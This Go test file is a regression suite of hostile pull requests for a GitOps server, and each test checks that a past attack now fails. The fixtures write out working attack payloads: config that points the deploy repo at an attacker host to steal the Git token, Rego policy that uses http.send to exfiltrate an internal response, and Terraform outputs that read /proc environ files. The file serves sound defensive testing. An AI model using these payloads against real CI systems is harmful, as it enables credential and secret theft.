package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"github.com/meridianhq/meridian/citest"
	"github.com/meridianhq/meridian/store"
	"github.com/meridianhq/meridian/terraform/terraformtest"
)

// The tests in this file are the hostile-PR suite of docs/security.md: each
// one is an attack that worked on the server before it was hardened, run
// against the whole server in-process, with the fake GitHub of
// serve_test.go (GitHub itself cannot run here; its payloads are the
// recorded ones in github/testdata).

// connCounter is a loopback listener that only counts the connections
// made to it: a host that a pull request names, which the server must
// never contact.
type connCounter struct {
	ln    net.Listener
	conns atomic.Int64
}

func newConnCounter(t *testing.T) *connCounter {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	c := &connCounter{ln: ln}
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			c.conns.Add(1)
			conn.Close()
		}
	}()
	t.Cleanup(func() { ln.Close() })
	return c
}

func (c *connCounter) addr() string { return c.ln.Addr().String() }

// hostileServer boots the server on a Git copy of the example and waits for
// the startup plan.
func hostileServer(t *testing.T, mod func(*ServeConfig)) (m *Main, gh *ghRecorder, c *client, repo, state string) {
	t.Helper()
	repo, state = exampleRepo(t), t.TempDir()
	m, gh = bootServer(t, repo, state, mod)
	c = &client{t: t, base: "http://" + m.Addr(), http: &http.Client{Timeout: 5 * time.Minute}}
	waitUntil(t, "the startup plan", func() bool { return m.Reconciler().State().PlanID != "" })
	return m, gh, c, repo, state
}

// openPR commits edit on a new branch of repo, delivers a signed
// pull_request webhook for it, waits until it is processed, and returns
// the comment the server posted.
func openPR(t *testing.T, m *Main, gh *ghRecorder, c *client, repo, branch string, edit func(dir string)) string {
	t.Helper()
	base := git(t, repo, "rev-parse", "main")
	git(t, repo, "checkout", "-q", "-b", branch)
	edit(repo)
	git(t, repo, "add", "-A")
	git(t, repo, "commit", "-qm", "hostile change")
	head := git(t, repo, "rev-parse", "HEAD")
	git(t, repo, "checkout", "-q", "main")
	pr := signedPayload(t, "pull_request.opened.payload.json", map[string]any{
		"pull_request.head.sha": head, "pull_request.head.ref": branch,
		"pull_request.base.sha": base, "pull_request.base.ref": "main"})
	id := "hostile-" + branch
	if code := c.webhook("pull_request", id, pr); code != http.StatusAccepted {
		t.Fatalf("PR delivery: %d", code)
	}
	if d := c.waitDelivery(m.Store(), id); d.Status != store.DeliveryProcessed {
		t.Fatalf("PR delivery %+v", d)
	}
	for _, cl := range gh.snapshot() {
		if b, ok := cl.Body["body"].(string); ok && strings.Contains(b, "<!-- meridian:pr-report") {
			return b
		}
	}
	t.Fatal("the server posted no PR comment")
	return ""
}

func appendFile(t *testing.T, path, text string) {
	t.Helper()
	f, err := os.OpenFile(path, os.O_APPEND|os.O_WRONLY, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if _, err := f.WriteString(text); err != nil {
		t.Fatal(err)
	}
}

// TestHostilePRDeployRepo: a fork PR sets deploy.repo (and prometheus.url,
// argocd.server) to the attacker's host. Before the fix, the deploy preview
// cloned it with the server's Git token as Basic auth. Now a PR head's
// outward settings are ignored: the attacker's host sees no connection at
// all, and the comment carries no token.
func TestHostilePRDeployRepo(t *testing.T) {
	const token = "canary-git-token-4f1c9e"
	attacker := newConnCounter(t)
	m, gh, c, repo, _ := hostileServer(t, func(c *ServeConfig) { c.NoTerraform, c.GitToken = true, token })
	body := openPR(t, m, gh, c, repo, "steal-token", func(dir string) {
		editFile(t, dir, "meridian.yaml", "deploy:\n", "prometheus:\n  url: http://"+attacker.addr()+"\ndeploy:\n  repo: https://"+attacker.addr()+"/x.git\n")
		editFile(t, dir, "meridian.yaml", "argocd:\n", "argocd:\n  server: https://"+attacker.addr()+"\n")
	})
	if n := attacker.conns.Load(); n != 0 {
		t.Errorf("the attacker's host got %d connection(s) from a PR head's settings", n)
	}
	if strings.Contains(body, token) || strings.Contains(body, attacker.addr()) {
		t.Errorf("the comment names the token or the attacker's host:\n%s", body)
	}
}

// TestHostilePRRego: a PR head's own Rego calls http.send and
// net.lookup_ip_addr. Before the fix the preview ran them, and the
// response of http.send was posted in the comment. Now the policy is
// refused with file, line and builtin, and no request leaves the server.
func TestHostilePRRego(t *testing.T) {
	var hits atomic.Int64
	const secret = "response-from-internal-service-7d2a"
	srv := &http.Server{Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		hits.Add(1)
		fmt.Fprint(w, `{"secret":"`+secret+`"}`)
	})}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(ln)
	t.Cleanup(func() { srv.Close() })
	m, gh, c, repo, _ := hostileServer(t, func(c *ServeConfig) { c.NoTerraform = true })
	body := openPR(t, m, gh, c, repo, "ssrf-rego", func(dir string) {
		rego := fmt.Sprintf(`package meridian.org.exfil

import rego.v1

deny contains f if {
	resp := http.send({"method": "GET", "url": "http://%s/"})
	f := {"rule": "EXFIL-1", "message": sprintf("%%v", [resp.body])}
}

deny contains f if {
	ips := net.lookup_ip_addr("localhost")
	f := {"rule": "EXFIL-2", "message": sprintf("%%v", [ips])}
}
`, ln.Addr())
		if err := os.WriteFile(filepath.Join(dir, "policies", "exfil.rego"), []byte(rego), 0o644); err != nil {
			t.Fatal(err)
		}
	})
	if n := hits.Load(); n != 0 {
		t.Errorf("a PR head's Rego sent %d request(s)", n)
	}
	if strings.Contains(body, secret) {
		t.Errorf("an outside response reached the comment:\n%s", body)
	}
	for _, want := range []string{"policies/exfil.rego:6", "http.send"} {
		if !strings.Contains(body, want) {
			t.Errorf("the comment does not name the refused builtin (%q):\n%s", want, body)
		}
	}
}

// TestHostileTagNamedLikeBranch: someone who can push tags creates a tag
// named main on a commit of their own. Before the fix the server planned
// (and with auto_apply applied) the tag's commit. The tracked branch is
// refs/heads/main, exactly: the tag neither replaces nor blocks it.
func TestHostileTagNamedLikeBranch(t *testing.T) {
	repo, state := exampleRepo(t), t.TempDir()
	branchHead := git(t, repo, "rev-parse", "HEAD")
	git(t, repo, "checkout", "-q", "-b", "evil")
	editFile(t, repo, "workloads/docs-site.yaml", "min: 1", "min: 3")
	git(t, repo, "commit", "-qam", "tagged commit")
	git(t, repo, "tag", "main")
	tagged := git(t, repo, "rev-parse", "HEAD")
	git(t, repo, "checkout", "-q", "main")
	m, _ := bootServer(t, repo, state, func(c *ServeConfig) { c.NoTerraform = true })
	waitUntil(t, "the startup plan", func() bool {
		st := m.Reconciler().State()
		return st.PlanID != "" || st.LastError != ""
	})
	st := m.Reconciler().State()
	if st.Commit != branchHead {
		t.Fatalf("the server planned %s (last error %q), want the branch head %s, not the tag's %s", st.Commit, st.LastError, branchHead, tagged)
	}
}

// TestHostileFailedPlanRecorded: a plan that fails, here by running out of
// its time budget, is recorded as failed with the budget named. Before the
// fix a shadowed err recorded every plan run as succeeded, with a plan ID
// that did not exist.
func TestHostileFailedPlanRecorded(t *testing.T) {
	repo, state := exampleRepo(t), t.TempDir()
	m, _ := bootServer(t, repo, state, func(c *ServeConfig) { c.NoTerraform, c.PlanTimeout = true, time.Millisecond })
	var runs []store.Run
	waitUntil(t, "a failed plan run", func() bool {
		var err error
		runs, err = m.Store().ListRuns(context.Background(), store.RunFilter{Kind: store.RunPlan})
		return err == nil && len(runs) > 0 && runs[0].Status != store.RunRunning
	})
	r := runs[0]
	if r.Status != store.RunFailed || !strings.Contains(r.Error, "time budget") {
		t.Fatalf("plan run recorded %s (%q), want failed naming the time budget", r.Status, r.Error)
	}
	if st := m.Reconciler().State(); st.PlanID != "" || !strings.Contains(st.LastError, "time budget") {
		t.Errorf("branch state %+v, want no plan and the budget error", st)
	}
}

// TestHostilePRTerraformSecrets: an allowlisted PR's Terraform module reads
// /proc/<pid>/environ of a process of the server's user, and its own
// environment. Before the fix, the comment listed the server's secrets.
// Now its environment holds none of them, and as root it runs as another
// user, who cannot read the server's processes.
func TestHostilePRTerraformSecrets(t *testing.T) {
	bin := terraformtest.Binary(t)
	if os.Geteuid() != 0 {
		citest.Missing(t, "the pull-request Terraform sandbox needs root (CI runs as root)")
	}
	const (
		procCanary = "canary-server-environ-91b3"
		envCanary  = "canary-aws-secret-5e77"
	)
	// A process of the server's user whose environment holds a secret, as
	// the server's own /proc/<pid>/environ does (the test process's initial
	// environment cannot be changed any more).
	victim := exec.Command("sleep", "300")
	victim.Env = append(os.Environ(), "MERIDIAN_WEBHOOK_SECRET="+procCanary)
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { victim.Process.Kill(); victim.Wait() })
	t.Setenv("AWS_SECRET_ACCESS_KEY", envCanary)

	m, gh, c, repo, _ := hostileServer(t, func(c *ServeConfig) {
		c.TerraformBin, c.PRTerraformRepos = bin, []string{"Codertocat/Hello-World"}
	})
	body := openPR(t, m, gh, c, repo, "read-environ", func(dir string) {
		appendFile(t, filepath.Join(dir, "terraform", "offline", "main.tf"), fmt.Sprintf(`
output "leak_server" {
  value = tonumber(file("/proc/%d/environ"))
}
output "leak_self" {
  value = tonumber(file("/proc/self/environ"))
}
`, victim.Process.Pid))
	})
	plans, err := m.Store().ListRuns(context.Background(), store.RunFilter{Kind: store.RunPlan})
	if err != nil {
		t.Fatal(err)
	}
	var doc []byte
	for _, r := range plans {
		if r.PlanID == "" {
			continue
		}
		// The PR's plan is the one whose Terraform errors name environ.
		if rec, err := m.Store().GetPlan(context.Background(), r.PlanID); err == nil && strings.Contains(string(rec.Document), "environ") {
			doc = rec.Document
		}
	}
	for _, s := range []string{string(doc), body} {
		for _, canary := range []string{procCanary, envCanary} {
			if strings.Contains(s, canary) {
				t.Errorf("a secret reached the plan or the comment: %q", canary)
			}
		}
	}
	var p struct {
		Terraform []struct{ Target, Status, Error string }
	}
	if err := json.Unmarshal(doc, &p); err != nil || len(p.Terraform) == 0 {
		t.Fatalf("no saved PR plan with Terraform targets (%v)", err)
	}
	for _, tc := range p.Terraform {
		// Terraform wraps its messages: compare with white space folded.
		if !strings.Contains(strings.Join(strings.Fields(tc.Error), " "), "environ: permission denied") {
			t.Errorf("target %s: %s %q, want the read of another process's environ refused", tc.Target, tc.Status, tc.Error)
		}
	}
}

// TestHostileURLCredentials: URLs with credentials, in every form, never
// show in CLI errors, log lines or API output. Before the fix the serve
// startup line printed https://user:PASSWORD@…, and scp-style
// user:pass@host:path was never redacted.
func TestHostileURLCredentials(t *testing.T) {
	cases := map[string]struct{ url, secret string }{
		"https userinfo": {"https://alice:s3cr3t-https-1@127.0.0.1:1/x.git", "s3cr3t-https-1"},
		"https token":    {"https://ghp_s3cr3tTokenValue2@127.0.0.1:1/x.git", "ghp_s3cr3tTokenValue2"},
		"scp style":      {"alice:s3cr3t-scp-3@127.0.0.1:x.git", "s3cr3t-scp-3"},
		"ssh userinfo":   {"ssh://alice:s3cr3t-ssh-4@127.0.0.1:1/x.git", "s3cr3t-ssh-4"},
	}
	for name, tc := range cases {
		t.Run(name, func(t *testing.T) {
			for _, args := range [][]string{
				{"validate", "--repo", tc.url, "--log-level", "debug"},
				{"plan", "--repo", tc.url, "--log-level", "debug", "--log-format", "json"},
			} {
				r := runCLI(t, args...)
				if r.code == 0 {
					t.Fatalf("%v succeeded against an unreachable repo", args)
				}
				if strings.Contains(r.stdout+r.stderr, tc.secret) {
					t.Errorf("%v printed the credential:\n%s%s", args, r.stdout, r.stderr)
				}
			}
		})
	}
	t.Run("serve", func(t *testing.T) {
		const secret = "s3cr3t-serve-5"
		var logs bytes.Buffer
		state := t.TempDir()
		m := NewMain()
		m.Config.Repo, m.Config.Addr, m.Config.StateDir, m.Config.NoTerraform = "https://alice:"+secret+"@127.0.0.1:1/x.git", "127.0.0.1:0", state, true
		m.Config.CacheDir = filepath.Join(state, "cache")
		m.Logger = slog.New(slog.NewJSONHandler(&logs, &slog.HandlerOptions{Level: slog.LevelDebug, ReplaceAttr: redactAttr}))
		if err := m.Run(context.Background()); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { m.Close() })
		waitUntil(t, "the failed first sync", func() bool { return m.Reconciler().State().LastError != "" })
		tok := runCLI(t, "token", "create", "--role", "viewer", "--name", "ci", "--state-dir", state)
		lines := strings.Split(strings.TrimSpace(tok.stdout), "\n")
		c := &client{t: t, base: "http://" + m.Addr(), token: lines[len(lines)-1], http: &http.Client{Timeout: time.Minute}}
		var status, runs json.RawMessage
		c.do("GET", "/api/v1/status", nil, &status)
		c.do("GET", "/api/v1/runs", nil, &runs)
		for what, s := range map[string]string{"logs": logs.String(), "status": string(status), "runs": string(runs),
			"state": fmt.Sprint(m.Reconciler().State())} {
			if strings.Contains(s, secret) {
				t.Errorf("%s show the credential:\n%s", what, s)
			}
		}
		if !strings.Contains(string(status), "127.0.0.1") {
			t.Errorf("status does not name the repo at all, so the check above proves nothing:\n%s", status)
		}
	})
}

// TestHostileCompareDeployRepo: `meridian plan --base/--head`, the PR
// report for any CI, takes the head's outward settings from the base too.
func TestHostileCompareDeployRepo(t *testing.T) {
	attacker := newConnCounter(t)
	repo := exampleRepo(t)
	git(t, repo, "checkout", "-q", "-b", "evil")
	editFile(t, repo, "meridian.yaml", "deploy:\n", "prometheus:\n  url: http://"+attacker.addr()+"\ndeploy:\n  repo: https://"+attacker.addr()+"/x.git\n")
	git(t, repo, "commit", "-qam", "evil deploy repo")
	git(t, repo, "checkout", "-q", "main")
	t.Setenv("MERIDIAN_GIT_TOKEN", "canary-cli-token")
	r := runCLI(t, "plan", "--repo", repo, "--base", "main", "--head", "evil", "--format", "json", "--state-dir", t.TempDir())
	if r.code != 0 && r.code != 2 {
		t.Fatalf("plan --base/--head: exit %d\n%s", r.code, r.stderr)
	}
	if n := attacker.conns.Load(); n != 0 {
		t.Errorf("the head's host got %d connection(s)", n)
	}
}
